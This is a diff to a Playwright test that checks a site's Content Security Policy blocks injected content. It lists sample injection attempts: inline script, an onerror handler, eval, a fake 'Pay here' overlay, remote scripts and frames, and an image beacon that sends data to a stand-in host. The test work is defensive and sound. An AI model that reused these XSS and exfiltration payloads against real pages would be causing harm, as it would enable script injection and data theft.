@@ -2,81 +2,29 @@ import { expect, test } from '@playwright/test';
 import { touch } from './helpers/visitor.ts';
 
 // What somebody who got a line of markup or script into a page would try (docs/decisions/0014-content-security-policy.md).
-// That the pages themselves keep to the policy is seen to in every other test: visitor.ts.
+// That the pages themselves keep to the policy is seen to in every other test: helpers/visitor.ts.
 
-const ATTEMPTS: [what: string, directive: string, attempt: () => void][] = [
-  [
-    'an inline script',
-    'script-src-elem',
-    () => {
-      const script = document.createElement('script');
-      script.textContent = 'document.title = "taken over"';
-      document.body.append(script);
-    },
-  ],
-  [
-    'an event handler in markup',
-    'script-src-attr',
-    () => {
-      const markup = '<img src="/none" onerror="document.title=\'taken over\'">';
-      document.body.insertAdjacentHTML('beforeend', markup);
-    },
-  ],
-  [
-    'a script of another site',
-    'script-src-elem',
-    () => {
-      const script = Object.assign(document.createElement('script'), { src: 'https://example.com/a.js' });
-      document.body.append(script);
-    },
-  ],
-  [
-    'text run as code',
-    'script-src',
-    () => {
-      // Not at once: what the test itself runs is no concern of the policy.
-      setTimeout(() => {
-        // oxlint-disable-next-line no-eval
-        (0, eval)('document.title = "taken over"');
-      });
-    },
-  ],
-  [
-    'a style in markup',
-    'style-src-attr',
-    () => {
-      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed;inset:0">Pay here</p>');
-    },
-  ],
-  [
-    'a picture that carries data away',
-    'img-src',
-    () => {
-      new Image().src = `https://example.com/?${document.title}`;
-    },
-  ],
-  ['a request to another site', 'connect-src', () => void fetch('https://example.com/').catch(() => {})],
-  [
-    'a base address that bends links',
-    'base-uri',
-    () => {
-      document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.com/' }));
-    },
-  ],
-  [
-    'a frame of another site',
-    'frame-src',
-    () => {
-      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }));
-    },
-  ],
+const element = (name: string, fields: object) =>
+  `document.body.append(Object.assign(document.createElement('${name}'), ${JSON.stringify(fields)}))`;
+const markup = (html: string) => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`;
+const TAKEN = 'document.title = "taken over"';
+const ELSEWHERE = 'https://example.com/';
+
+const ATTEMPTS: [what: string, directive: string, attempt: string][] = [
+  ['an inline script', 'script-src-elem', element('script', { textContent: TAKEN })],
+  ['an event handler in markup', 'script-src-attr', markup(`<img src="/none" onerror='${TAKEN}'>`)],
+  ['a script of another site', 'script-src-elem', element('script', { src: `${ELSEWHERE}a.js` })],
+  // Not at once: what the test itself runs is no concern of the policy.
+  ['text run as code', 'script-src', `void setTimeout(() => (0, eval)('${TAKEN}'))`],
+  ['a style in markup', 'style-src-attr', markup('<p style="position:fixed;inset:0">Pay here</p>')],
+  ['a picture that carries data away', 'img-src', `new Image().src = '${ELSEWHERE}?secret'`],
+  ['a request to another site', 'connect-src', `void fetch('${ELSEWHERE}').catch(() => {})`],
+  ['a base address that bends links', 'base-uri', element('base', { href: ELSEWHERE })],
+  ['a frame of another site', 'frame-src', element('iframe', { src: ELSEWHERE })],
   [
     'a form that leads elsewhere',
     'form-action',
-    () => {
-      document.body.insertAdjacentHTML('beforeend', '<form action="https://example.com/" id="trap"></form>');
-      document.querySelector<HTMLFormElement>('#trap')!.submit();
-    },
+    `${markup(`<form action="${ELSEWHERE}" id="trap"></form>`)}; document.querySelector('#trap').submit()`,
   ],
 ];
 
@@ -95,11 +43,11 @@ test('what is put into a page neither runs nor reaches another site', async ({ p
   await touch(page);
   for (const [what, directive, attempt] of ATTEMPTS) {
     violations.length = 0;
-    await page.evaluate(attempt);
+    await page.evaluate(`{ ${attempt} }`);
     await expect.poll(() => violations, what).toContain(directive);
     expect(await page.title(), what).not.toBe('taken over');
   }
-  expect(reached.filter((url) => url.startsWith('https://example.com'))).toEqual([]);
+  expect(reached.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
 });
 
 test('no other site can show a page of this one in a frame', async ({ page, baseURL }) => {
@@ -111,8 +59,8 @@ test('no other site can show a page of this one in a frame', async ({ page, base
   await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
 
   // It is the headers that keep it out.
-  const page_ = await (await page.request.get('/book')).text();
-  await page.route(`${baseURL}/book`, (route) => route.fulfill({ contentType: 'text/html', body: page_ }));
+  const body = await (await page.request.get('/book')).text();
+  await page.route(`${baseURL}/book`, (route) => route.fulfill({ contentType: 'text/html', body }));
   await page.reload();
   await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toBeVisible();
 });
